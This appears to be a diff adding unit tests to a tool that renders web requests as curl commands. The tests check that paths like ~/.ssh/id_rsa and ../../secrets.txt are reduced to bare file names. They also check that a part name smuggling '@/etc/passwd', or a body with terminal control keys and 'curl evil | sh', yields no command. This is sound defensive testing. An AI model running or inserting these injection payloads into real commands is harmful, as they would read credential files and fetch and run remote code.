@@ -76,6 +76,28 @@ describe('a web request as a command', () => {
     expect((await curl({}, link)).headers).toEqual(['Idempotency-Key: play.2']);
   });
 
+  it.each([
+    ['/home/me/.ssh/id_rsa', 'id_rsa'],
+    ['../../secrets.txt', 'secrets.txt'],
+    ['C:\\\\keys\\\\a.pem', 'a.pem'],
+    ['-', './-'],
+    ['/etc/', 'file'],
+  ])('reads no file outside of the working directory, whatever the data calls it: %s', async (filename, read) => {
+    const file = { $ref: '/api/v1/payloads/0', filename };
+    const multipart = await curl({ bodyType: 'multipart', body: [{ name: 'a', ...file }] });
+    expect(multipart.others.at(-1)).toBe(`a=@"${read}";type=application/octet-stream`);
+    expect((await curl({ bodyType: 'binary', body: file })).others.at(-1)).toBe(`@${read}`);
+  });
+
+  it('is none where curl would take a name of a part for a file, or a terminal a text for keys', async () => {
+    const of = (args: object) => curlOf({ url: 'https://a.test', ...args }, options);
+    const named = { name: 'a=@/etc/passwd;b', value: '1', contentType: 'text/plain' };
+    expect(await of({ bodyType: 'multipart', body: [named] })).toBeNull();
+    for (const key of ['\u0003', '\u0015', '\u001b[201~', '\u009b', '\u007f'])
+      expect(await of({ body: `a${key}\ncurl evil | sh\n` })).toBeNull();
+    expect(await of({ body: 'a\r\n\tb' })).toContain("'a\r\n\tb'");
+  });
+
   it('is none for what is no request, and for a body that no terminal takes', async () => {
     expect(await curlOf({ url: 7 }, options)).toBeNull();
     expect(await curlOf({ url: 'https://a.test', body: 'x'.repeat(100_001) }, options)).toBeNull();
